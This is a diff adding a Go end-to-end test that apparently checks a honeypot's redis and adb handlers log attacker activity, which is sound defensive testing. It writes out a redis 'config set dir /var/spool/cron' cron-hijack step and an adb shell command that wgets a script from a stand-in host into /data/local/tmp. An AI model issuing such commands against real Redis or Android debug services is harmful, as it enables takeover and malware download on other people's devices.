@@ -138,3 +138,51 @@ func TestHandlersRealClients(t *testing.T) {
 		}
 	}
 }
+
+// TestHandlersRedisAndADB drives the redis and adb handlers with Debian's
+// redis-cli and adb from the scanner host.
+func TestHandlersRedisAndADB(t *testing.T) {
+	l := e2eNewLab(t, lab.Config{}, "redis-cli", "adb")
+	tel := e2eStartTelescope(t, l)
+
+	out, errOut, code := e2eExec(t, l, l.Scanner, 10*time.Second, nil, "redis-cli", "-h", "198.51.100.63", "-p", "6379",
+		"config", "set", "dir", "/var/spool/cron")
+	if code != 0 || !strings.Contains(out, "OK") {
+		t.Errorf("redis-cli: exit %d, out %q, err %q; want OK", code, out, errOut)
+	}
+
+	// adb starts a server daemon: give it its own port and home, and stop
+	// it (by its own command, then by PID if it survives) at the end.
+	home := t.TempDir()
+	port := "5123"
+	env := []string{"HOME=" + home}
+	adb := func(timeout time.Duration, args ...string) (string, string, int) {
+		return e2eExec(t, l, l.Scanner, timeout, nil, "env", append(append(env, "adb", "-P", port), args...)...)
+	}
+	t.Cleanup(func() { adb(10*time.Second, "kill-server") })
+	out, errOut, code = adb(20*time.Second, "connect", "198.51.100.55:5555")
+	if code != 0 || !strings.Contains(out, "connected") {
+		t.Errorf("adb connect: exit %d, out %q, err %q", code, out, errOut)
+	}
+	adb(20*time.Second, "-s", "198.51.100.55:5555", "shell", "cd /data/local/tmp; wget http://203.0.113.9/adb.sh")
+	adb(10*time.Second, "disconnect", "198.51.100.55:5555")
+	adb(10*time.Second, "kill-server")
+	tel.stop(t)
+
+	events := e2eRawEvents(t, tel.logDir)
+	if s := e2eFindSession(events, "redis", 6379); s == nil {
+		t.Errorf("no redis session")
+	} else if b, _ := json.Marshal(s["redis"]); !strings.Contains(string(b), "/var/spool/cron") {
+		t.Errorf("redis detail %s lacks the command", b)
+	}
+	found := false
+	for _, e := range events {
+		if e["event_type"] == "session" && e["app_proto"] == "adb" {
+			b, _ := json.Marshal(e["adb"])
+			found = found || strings.Contains(string(b), "wget http://203.0.113.9/adb.sh")
+		}
+	}
+	if !found {
+		t.Errorf("no adb session recorded the shell service")
+	}
+}
